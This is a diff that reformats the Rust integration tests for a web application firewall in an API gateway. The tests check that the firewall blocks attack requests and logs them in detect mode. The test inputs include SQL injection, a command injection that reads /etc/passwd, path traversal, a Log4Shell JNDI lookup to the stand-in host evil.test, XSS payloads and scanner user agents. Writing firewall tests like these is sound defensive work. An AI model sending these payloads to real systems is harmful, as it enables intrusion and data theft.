@@ -50,8 +50,17 @@ fn metric(gw: &Gateway, line: &str) -> Option<f64> {
 fn blocked(r: &Response, rule: u64, what: &str) {
     assert_error_json(r, 403);
     let v: Value = r.json();
-    let rules: Vec<u64> = v["rules"].as_array().unwrap_or(&vec![]).iter().filter_map(Value::as_u64).collect();
-    assert!(rules.contains(&rule), "{what}: rule {rule} not in {}", r.body_str());
+    let rules: Vec<u64> = v["rules"]
+        .as_array()
+        .unwrap_or(&vec![])
+        .iter()
+        .filter_map(Value::as_u64)
+        .collect();
+    assert!(
+        rules.contains(&rule),
+        "{what}: rule {rule} not in {}",
+        r.body_str()
+    );
 }
 
 #[test]
@@ -64,36 +73,149 @@ fn attacks_are_blocked_wherever_they_hide() {
         up.clear();
         let mut c = Client::connect(gw.addr);
         let cases: Vec<(&str, Response, u64)> = vec![
-            ("query sqli", c.get("/b/items?q=1%27%20OR%20%271%27%3D%271", "a.test"), 942100),
-            ("query union", c.get("/b/items?id=1%20UNION%2F**%2FSELECT%20password%20FROM%20users", "a.test"), 942190),
-            ("double-encoded traversal", c.get("/b/f?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd", "a.test"), 930110),
-            ("rce", c.get("/b/ping?host=127.0.0.1%3Bcat%20/etc/passwd", "a.test"), 932100),
-            ("log4shell", c.get("/b/x?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.test%2Fa%7D", "a.test"), 944100),
-            ("form xss", post(&mut c, "/b/comments", "application/x-www-form-urlencoded", b"text=%3Cscript%3Ealert(1)%3C%2Fscript%3E"), 941110),
-            ("json escaped sqli", post(&mut c, "/b/orders", "application/json", br#"{"user":{"name":"x\u0027 OR 1=1--"}}"#), 942100),
-            ("json html entities", post(&mut c, "/b/orders", "application/json", br#"{"bio":"&lt;img src=x onerror=alert(1)&gt;"}"#), 941120),
+            (
+                "query sqli",
+                c.get("/b/items?q=1%27%20OR%20%271%27%3D%271", "a.test"),
+                942100,
+            ),
+            (
+                "query union",
+                c.get(
+                    "/b/items?id=1%20UNION%2F**%2FSELECT%20password%20FROM%20users",
+                    "a.test",
+                ),
+                942190,
+            ),
+            (
+                "double-encoded traversal",
+                c.get(
+                    "/b/f?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd",
+                    "a.test",
+                ),
+                930110,
+            ),
+            (
+                "rce",
+                c.get("/b/ping?host=127.0.0.1%3Bcat%20/etc/passwd", "a.test"),
+                932100,
+            ),
+            (
+                "log4shell",
+                c.get(
+                    "/b/x?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.test%2Fa%7D",
+                    "a.test",
+                ),
+                944100,
+            ),
+            (
+                "form xss",
+                post(
+                    &mut c,
+                    "/b/comments",
+                    "application/x-www-form-urlencoded",
+                    b"text=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
+                ),
+                941110,
+            ),
+            (
+                "json escaped sqli",
+                post(
+                    &mut c,
+                    "/b/orders",
+                    "application/json",
+                    br#"{"user":{"name":"x\u0027 OR 1=1--"}}"#,
+                ),
+                942100,
+            ),
+            (
+                "json html entities",
+                post(
+                    &mut c,
+                    "/b/orders",
+                    "application/json",
+                    br#"{"bio":"&lt;img src=x onerror=alert(1)&gt;"}"#,
+                ),
+                941120,
+            ),
         ];
         for (what, r, rule) in &cases {
             blocked(r, *rule, what);
         }
         // a multipart field value is inspected, a file's content is not
         let mp = "--XyZ\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\n<svg onload=alert(1)>\r\n--XyZ--\r\n";
-        blocked(&post(&mut c, "/b/up", "multipart/form-data; boundary=XyZ", mp.as_bytes()), 941110, "multipart field");
+        blocked(
+            &post(
+                &mut c,
+                "/b/up",
+                "multipart/form-data; boundary=XyZ",
+                mp.as_bytes(),
+            ),
+            941110,
+            "multipart field",
+        );
         let file = "--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"dump.sql\"\r\nContent-Type: text/plain\r\n\r\nSELECT * FROM users WHERE 1=1; DROP TABLE users;--\r\n--XyZ--\r\n";
-        assert_eq!(post(&mut c, "/b/up", "multipart/form-data; boundary=XyZ", file.as_bytes()).status, 200, "[{driver}] file contents pass");
+        assert_eq!(
+            post(
+                &mut c,
+                "/b/up",
+                "multipart/form-data; boundary=XyZ",
+                file.as_bytes()
+            )
+            .status,
+            200,
+            "[{driver}] file contents pass"
+        );
         // chunked JSON, the attack in the second chunk
         let mut raw = b"POST /b/orders HTTP/1.1\r\nHost: a.test\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n".to_vec();
-        raw.extend(chunked(&[b"{\"note\":\"hello\",", b"\"q\":\"<script>alert(document.cookie)</script>\"}"]));
+        raw.extend(chunked(&[
+            b"{\"note\":\"hello\",",
+            b"\"q\":\"<script>alert(document.cookie)</script>\"}",
+        ]));
         blocked(&c.request(&raw), 941110, "chunked json");
-        let cookie = req("GET", "/b/x", "a.test", &[("cookie", "theme=dark; s=' or '1'='1")], b"");
+        let cookie = req(
+            "GET",
+            "/b/x",
+            "a.test",
+            &[("cookie", "theme=dark; s=' or '1'='1")],
+            b"",
+        );
         blocked(&c.request(&cookie), 942100, "cookie");
-        let agent = req("GET", "/b/x", "a.test", &[("user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")], b"");
+        let agent = req(
+            "GET",
+            "/b/x",
+            "a.test",
+            &[("user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")],
+            b"",
+        );
         blocked(&c.request(&agent), 913100, "scanner");
         let r = c.get("/b/static/..%2f..%2fetc%2fpasswd", "a.test");
-        assert!(r.status == 403 || r.status == 400, "[{driver}] encoded traversal in the path: {}", r.status);
-        assert_eq!(up.request_count(), 1, "[{driver}] only the file upload reached the upstream");
-        assert!(metric(&gw, "coregate_waf_requests_total{route=\"block\",action=\"blocked\"} ").unwrap() >= 12.0);
-        assert!(metric(&gw, "coregate_waf_matches_total{route=\"block\",family=\"sqli\"} ").unwrap() >= 3.0, "[{driver}]");
+        assert!(
+            r.status == 403 || r.status == 400,
+            "[{driver}] encoded traversal in the path: {}",
+            r.status
+        );
+        assert_eq!(
+            up.request_count(),
+            1,
+            "[{driver}] only the file upload reached the upstream"
+        );
+        assert!(
+            metric(
+                &gw,
+                "coregate_waf_requests_total{route=\"block\",action=\"blocked\"} "
+            )
+            .unwrap()
+                >= 12.0
+        );
+        assert!(
+            metric(
+                &gw,
+                "coregate_waf_matches_total{route=\"block\",family=\"sqli\"} "
+            )
+            .unwrap()
+                >= 3.0,
+            "[{driver}]"
+        );
     });
 }
 
@@ -110,19 +232,52 @@ fn benign_traffic_passes_untouched_and_exclusions_apply() {
         let r = post(&mut c, "/b/orders", "application/json", body);
         assert_eq!(r.status, 200, "[{driver}] {}", r.body_str());
         assert_eq!(r.body, body, "[{driver}] the upstream got the body as sent");
-        let r = c.get("/b/search?q=O%27Reilly%20books&sort=price-asc&email=jane%40example.com", "a.test");
+        let r = c.get(
+            "/b/search?q=O%27Reilly%20books&sort=price-asc&email=jane%40example.com",
+            "a.test",
+        );
         assert_eq!(r.status, 200, "[{driver}]");
         // the same payload: excluded for `search` and under `notes.`, blocked elsewhere
-        assert_eq!(c.get("/b/s?search=1%27%20or%20%271%27%3D%271", "a.test").status, 200, "[{driver}]");
-        let ok = post(&mut c, "/b/o", "application/json", br#"{"notes":{"a":"1' or '1'='1"}}"#);
+        assert_eq!(
+            c.get("/b/s?search=1%27%20or%20%271%27%3D%271", "a.test")
+                .status,
+            200,
+            "[{driver}]"
+        );
+        let ok = post(
+            &mut c,
+            "/b/o",
+            "application/json",
+            br#"{"notes":{"a":"1' or '1'='1"}}"#,
+        );
         assert_eq!(ok.status, 200, "[{driver}] {}", ok.body_str());
-        assert_eq!(c.get("/b/s?other=1%27%20or%20%271%27%3D%271", "a.test").status, 403, "[{driver}]");
+        assert_eq!(
+            c.get("/b/s?other=1%27%20or%20%271%27%3D%271", "a.test")
+                .status,
+            403,
+            "[{driver}]"
+        );
         // the exclusion covers SQLi only
-        assert_eq!(c.get("/b/s?search=%3Cscript%3Ealert(1)%3C/script%3E", "a.test").status, 403, "[{driver}]");
+        assert_eq!(
+            c.get("/b/s?search=%3Cscript%3Ealert(1)%3C/script%3E", "a.test")
+                .status,
+            403,
+            "[{driver}]"
+        );
         // a route without a WAF forwards anything
-        assert_eq!(c.get("/o/x?q=1%27%20or%20%271%27%3D%271", "a.test").status, 200, "[{driver}]");
+        assert_eq!(
+            c.get("/o/x?q=1%27%20or%20%271%27%3D%271", "a.test").status,
+            200,
+            "[{driver}]"
+        );
         // the strict route excludes the scanner family
-        let agent = req("GET", "/s/x", "a.test", &[("user-agent", "Nikto/2.1.6")], b"");
+        let agent = req(
+            "GET",
+            "/s/x",
+            "a.test",
+            &[("user-agent", "Nikto/2.1.6")],
+            b"",
+        );
         assert_eq!(c.request(&agent).status, 200, "[{driver}]");
         assert_eq!(up.request_count(), 6, "[{driver}]");
     });
@@ -141,22 +296,36 @@ fn detect_mode_forwards_logs_and_counts() {
         let r = c.get("/d/x?q=%3Cscript%3Ealert(1)%3C/script%3E", "a.test");
         assert_eq!(r.status, 200, "[{driver}] detect mode forwards");
         assert_eq!(up.request_count(), 1);
-        assert_eq!(metric(&gw, "coregate_waf_requests_total{route=\"detect\",action=\"detected\"} "), Some(1.0));
+        assert_eq!(
+            metric(
+                &gw,
+                "coregate_waf_requests_total{route=\"detect\",action=\"detected\"} "
+            ),
+            Some(1.0)
+        );
         let rid = r.header("x-request-id").unwrap();
         let mut line = Value::Null;
         wait_until(deadline(secs(10)), || {
             let text = std::fs::read_to_string(&log).unwrap_or_default();
-            text.lines().filter_map(|l| serde_json::from_str::<Value>(l).ok()).any(|v| {
-                let hit = v["request_id"] == rid.as_str();
-                if hit {
-                    line = v;
-                }
-                hit
-            })
+            text.lines()
+                .filter_map(|l| serde_json::from_str::<Value>(l).ok())
+                .any(|v| {
+                    let hit = v["request_id"] == rid.as_str();
+                    if hit {
+                        line = v;
+                    }
+                    hit
+                })
         });
         let waf = line["waf"].as_str().unwrap_or_default();
-        assert!(waf.starts_with("detected:") && waf.contains("941"), "[{driver}] {line}");
-        assert_eq!(line["waf_match"], "q=<script>alert(1)</script>", "[{driver}] log_payload");
+        assert!(
+            waf.starts_with("detected:") && waf.contains("941"),
+            "[{driver}] {line}"
+        );
+        assert_eq!(
+            line["waf_match"], "q=<script>alert(1)</script>",
+            "[{driver}] log_payload"
+        );
     });
 }
 
@@ -183,13 +352,31 @@ fn bodies_continue_and_limits() {
         assert_eq!(r.status, 413, "[{driver}]");
         // over the block route's 4 KiB limit: the first 4 KiB are inspected, the rest streams
         let mut c = Client::connect(gw.addr);
-        let tail = format!("{{\"a\":\"{}\",\"b\":\"<script>alert(1)</script>\"}}", "x".repeat(5000));
-        assert_eq!(post(&mut c, "/b/o", "application/json", tail.as_bytes()).status, 200, "[{driver}] partial");
-        let head = format!("{{\"b\":\"<script>alert(1)</script>\",\"a\":\"{}\"}}", "x".repeat(5000));
-        assert_eq!(post(&mut c, "/b/o", "application/json", head.as_bytes()).status, 403, "[{driver}]");
+        let tail = format!(
+            "{{\"a\":\"{}\",\"b\":\"<script>alert(1)</script>\"}}",
+            "x".repeat(5000)
+        );
+        assert_eq!(
+            post(&mut c, "/b/o", "application/json", tail.as_bytes()).status,
+            200,
+            "[{driver}] partial"
+        );
+        let head = format!(
+            "{{\"b\":\"<script>alert(1)</script>\",\"a\":\"{}\"}}",
+            "x".repeat(5000)
+        );
+        assert_eq!(
+            post(&mut c, "/b/o", "application/json", head.as_bytes()).status,
+            403,
+            "[{driver}]"
+        );
         // a body that says JSON but is not: refused (920130)
         let mut c = Client::connect(gw.addr);
-        blocked(&post(&mut c, "/b/o", "application/json", b"{\"a\": [1, 2"), 920130, "malformed json");
+        blocked(
+            &post(&mut c, "/b/o", "application/json", b"{\"a\": [1, 2"),
+            920130,
+            "malformed json",
+        );
         assert_eq!(up.request_count(), 2, "[{driver}]");
     });
 }
